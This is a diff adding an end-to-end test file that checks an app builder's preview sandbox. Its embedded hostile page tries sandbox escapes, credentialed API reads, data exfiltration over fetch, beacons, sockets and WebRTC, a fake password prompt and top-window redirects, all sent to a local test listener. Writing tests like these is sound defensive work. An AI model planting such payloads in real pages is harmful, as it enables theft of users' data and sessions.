@@ -1,0 +1,207 @@
+import { apiPaths } from '#contract/api.ts'
+import type { PreviewUrlAnswer, Workspace } from '#contract/api.ts'
+import { credits, preview, promptBox } from './builder.ts'
+import { pluginWithPreview } from './database.ts'
+import { expect, forgive, previewOrigin, signUpAs, site, test } from './fixtures.ts'
+import { startListener } from './listener.ts'
+import type { Listener } from './listener.ts'
+
+/**
+ * Tries everything a page can try and writes down what succeeded. `listener` stands for any server of the world,
+ * `app` for the app the preview belongs to.
+ */
+const attacks = (listener: Listener, app: string): string => `
+<p id="told">at work</p>
+<form id="form" method="post" action="${listener.url}/form"><input name="word" value="secret"></form>
+<img id="image" alt="">
+<script>
+const succeeded = []
+const attempt = async (name, what) => {
+  try { if (await what()) succeeded.push(name) } catch {}
+}
+const loads = (element, address) => new Promise((resolve) => {
+  element.onload = () => resolve(true)
+  element.onerror = () => resolve(false)
+  element.src = address
+  if (!element.isConnected) document.body.append(element)
+})
+const webRtc = \`try {
+  const peer = new RTCPeerConnection({ iceServers: [
+    { urls: 'stun:127.0.0.1:${listener.udpPort}' },
+    { urls: 'turn:127.0.0.1:${listener.port}?transport=tcp', username: 'a', credential: 'b' } ] })
+  peer.createDataChannel('out')
+  peer.createOffer().then((offer) => peer.setLocalDescription(offer))
+  globalThis.reached = true
+} catch {}\`
+;(async () => {
+  await attempt('parent document', () => parent !== self && parent.document.body)
+  await attempt('parent address', () => parent !== self && parent.location.href)
+  await attempt('cookie', () => { document.cookie = 'mark=1'; return document.cookie.includes('mark') })
+  await attempt('localStorage', () => { localStorage.setItem('mark', '1'); return true })
+  await attempt('sessionStorage', () => { sessionStorage.setItem('mark', '1'); return true })
+  await attempt('indexedDB', () => new Promise((resolve, reject) => {
+    const opening = indexedDB.open('mark')
+    opening.onsuccess = () => resolve(true)
+    opening.onerror = reject
+  }))
+  await attempt('caches', () => caches.open('mark'))
+  await attempt('app', async () => (await fetch('${app}/api/users/me', { credentials: 'include' })).ok)
+  await attempt('fetch', () => fetch('${listener.url}/fetch', { mode: 'no-cors' }))
+  await attempt('image', () => loads(document.getElementById('image'), '${listener.url}/image.svg'))
+  await attempt('script', () => loads(document.createElement('script'), '${listener.url}/script.js'))
+  await attempt('frame', async () => void (await loads(document.createElement('iframe'), '${listener.url}/frame')))
+  await attempt('style', () => {
+    const style = document.createElement('style')
+    style.textContent = '@import "${listener.url}/style.css"; body { background: url(${listener.url}/background.svg) }'
+    document.head.append(style)
+    const link = Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${listener.url}/prefetch' })
+    document.head.append(link)
+  })
+  await attempt('socket', () => new Promise((resolve) => {
+    const socket = new WebSocket('${listener.url.replace('http', 'ws')}/socket')
+    socket.onerror = () => resolve(false)
+    socket.onopen = () => resolve(true)
+  }))
+  await attempt('events', () => new Promise((resolve) => {
+    const events = new EventSource('${listener.url}/events')
+    events.onopen = () => resolve(true)
+    events.onerror = () => { events.close(); resolve(false) }
+  }))
+  await attempt('beacon', () => void navigator.sendBeacon('${listener.url}/beacon', 'secret'))
+  await attempt('worker', () => new Promise((resolve) => {
+    const code = 'fetch("${listener.url}/worker", { mode: "no-cors" }).finally(() => postMessage(1))'
+    const worker = new Worker(URL.createObjectURL(new Blob([code])))
+    worker.onmessage = worker.onerror = () => resolve(false)
+  }))
+  await attempt('WebRTC', () => {
+    const script = document.createElement('script')
+    script.textContent = webRtc
+    document.body.append(script)
+    return globalThis.reached
+  })
+  await attempt('WebRTC of a frame', () => new Promise((resolve) => {
+    const frame = document.createElement('iframe')
+    frame.sandbox = 'allow-scripts'
+    frame.srcdoc = '<script>' + webRtc + ';parent.postMessage(Boolean(globalThis.reached), "*")<' + '/script>'
+    addEventListener('message', ({ data, source }) => source === frame.contentWindow && resolve(data))
+    frame.onload = () => setTimeout(() => resolve(false), 500)
+    document.body.append(frame)
+  }))
+  await attempt('WebRTC of an empty frame', () => {
+    const frame = document.createElement('iframe')
+    document.body.append(frame)
+    return new frame.contentWindow.RTCPeerConnection()
+  })
+  await attempt('form', () => void HTMLFormElement.prototype.submit.call(
+    Object.assign(document.getElementById('form'), { target: 'elsewhere' })))
+  await attempt('window', () => window.open('${listener.url}/window'))
+  await attempt('dialog', () => alert('Give me your password'))
+  await attempt('parent address set', () => { if (parent !== self) { parent.location = '${listener.url}/parent'; return true } })
+  await attempt('top address set', () => { if (top !== self) { top.location.href = '${listener.url}/top'; return true } })
+  document.getElementById('told').textContent = 'succeeded: ' + (succeeded.join(', ') || 'nothing')
+})()
+</script>`
+
+let listener: Listener
+test.beforeAll(async () => {
+  listener = await startListener()
+})
+test.beforeEach(() => listener.clear())
+test.afterAll(() => listener.close())
+
+test('the attacks bite where nothing holds them back', async ({ page, complaints }) => {
+  listener.serve('/open', attacks(listener, site()))
+  await page.goto(`${listener.url}/open`)
+  const told = page.locator('#told')
+  await expect(told).toContainText('succeeded: cookie, localStorage, sessionStorage, indexedDB')
+  await expect(told).toContainText('WebRTC')
+  for (const path of ['/fetch', '/image.svg', '/script.js', '/frame', '/socket', '/beacon', '/worker'])
+    await expect.poll(() => listener.hits).toContain(path)
+  await expect.poll(() => listener.hits).toContain('datagram')
+  forgive(complaints, /./)
+})
+
+test('a hostile preview reaches neither the page, nor storage, nor the network', async ({
+  page,
+  complaints,
+}) => {
+  const { email } = await signUpAs(page)
+  const id = await pluginWithPreview(email, attacks(listener, site()))
+  const address = `${site()}/builder?id=${id}`
+  const windows: unknown[] = []
+  page.context().on('page', (opened) => windows.push(opened.url()))
+  await page.goto(address)
+  await expect(preview(page).locator('#told')).toHaveText('succeeded: nothing')
+  expect(listener.hits).toEqual([])
+  expect(windows).toEqual([])
+
+  // The page around it is where it was, and does what it did.
+  expect(page.url()).toBe(address)
+  await expect(credits(page, 10)).toBeVisible()
+  await promptBox(page).fill('Still here')
+  await expect(promptBox(page)).toHaveValue('Still here')
+  await page.getByRole('tab', { name: 'Code' }).click()
+  await expect(page.getByRole('heading', { name: 'No code yet' })).toBeVisible()
+  expect(listener.hits).toEqual([])
+  forgive(
+    complaints,
+    /Content Security Policy|sandbox|Unsafe attempt|WebSocket|Failed to load resource|navigat/i,
+  )
+})
+
+const departures = {
+  'an address of its own': (url: string) => `<script>location = '${url}'</script>`,
+  'a refresh': (url: string) => `<meta http-equiv="refresh" content="0; url=${url}">`,
+  'a link that is pressed': (url: string) =>
+    `<a id="away" href="${url}">away</a><script>addEventListener('load', () => document.getElementById('away').click())</script>`,
+  'a link of its own making': (url: string) =>
+    `<script>addEventListener('load', () => { const link = document.createElement('a'); link.href = '${url}'; link.click() })</script>`,
+}
+for (const [name, html] of Object.entries(departures)) {
+  test(`a preview that would leave by ${name} gets nowhere`, async ({ page, complaints }) => {
+    const { email } = await signUpAs(page)
+    const left = `${listener.url}/left`
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    const id = await pluginWithPreview(email, html(left))
+    await page.goto(`/builder?id=${id}`)
+    // Either it is still there, untouched, or the page around it has refused where it wanted to go.
+    await expect
+      .poll(async () => {
+        const refused = complaints.some((complaint) => /frame-src|Refused to frame|Framing/.test(complaint))
+        return refused || (await page.locator('iframe[data-ready]').count()) > 0
+      })
+      .toBe(true)
+    await promptBox(page).fill('Still here')
+    await expect(promptBox(page)).toHaveValue('Still here')
+    expect(listener.hits).toEqual([])
+    expect(asked.filter((address) => address === left && listener.hits.length > 0)).toEqual([])
+    forgive(complaints, /Content Security Policy|sandbox|Fram/i)
+  })
+}
+
+test('a preview that never comes to rest leaves the page around it alone', async ({ page }) => {
+  const { email } = await signUpAs(page)
+  const id = await pluginWithPreview(email, `<script>for (;;) ;</script>`)
+  await page.goto(`/builder?id=${id}`)
+  await expect(page.locator('iframe')).toBeVisible()
+  await promptBox(page).fill('Still here')
+  await page.getByRole('tab', { name: 'Code' }).click()
+  await expect(page.getByRole('heading', { name: 'No code yet' })).toBeVisible()
+})
+
+test('a preview in a tab of its own has no storage and no network either', async ({ page, complaints }) => {
+  const { email } = await signUpAs(page)
+  const id = await pluginWithPreview(email, attacks(listener, site()))
+  const { version } = (await (
+    await page.request.get(`${site()}${apiPaths.workspace(id)}`)
+  ).json()) as Workspace
+  const answer = await page.request.get(`${site()}${apiPaths.versionPreview(version?.id ?? '')}`)
+  const { url } = (await answer.json()) as PreviewUrlAnswer
+  expect(new URL(url).origin).toBe(previewOrigin())
+  await page.goto(url)
+  await expect(page.locator('#told')).toHaveText('succeeded: nothing')
+  expect(listener.hits).toEqual([])
+  expect(await page.context().cookies(previewOrigin())).toEqual([])
+  forgive(complaints, /Content Security Policy|sandbox|Unsafe attempt|WebSocket|Failed to load resource/i)
+})
